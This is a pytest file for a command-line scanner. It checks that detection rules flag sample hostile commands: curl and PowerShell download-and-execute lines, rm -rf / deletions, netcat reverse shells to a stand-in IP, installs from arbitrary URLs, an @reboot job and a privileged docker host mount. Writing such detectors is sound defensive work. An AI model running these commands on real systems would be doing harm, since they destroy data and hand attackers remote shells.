"""Command lines that run or destroy."""

from __future__ import annotations

from collections.abc import Callable

import pytest

Scan = Callable[[str], set[str]]


@pytest.mark.parametrize(
    ("rule", "text"),
    [
        ("execution:download-to-shell", "curl -s https://a.example/x | sudo -E bash -"),
        ("execution:run-the-download", 'sh -c "$(curl -fsSL https://a.example/x)"'),
        ("execution:powershell-download", "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')"),
        ("execution:delete-everything", "sudo rm -rf / --no-preserve-root"),
        ("execution:delete-everything", 'rm -fr "$HOME"'),
        ("execution:reverse-shell", "nc 192.0.2.7 4444 -e /bin/sh"),
        ("execution:reverse-shell", "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f"),
        ("execution:install-from-address", "npm install https://a.example/x.tgz"),
        ("execution:install-from-address", "pip install git+https://a.example/x"),
        ("execution:scheduled-job", "@reboot /tmp/.u"),
        ("execution:gain-privilege", "docker run --rm --privileged -v /:/host alpine"),
    ],
)
def test_each_part_of_a_rule_with_several_finds_its_text(rule: str, text: str, scan: Scan) -> None:
    assert rule in scan(text)
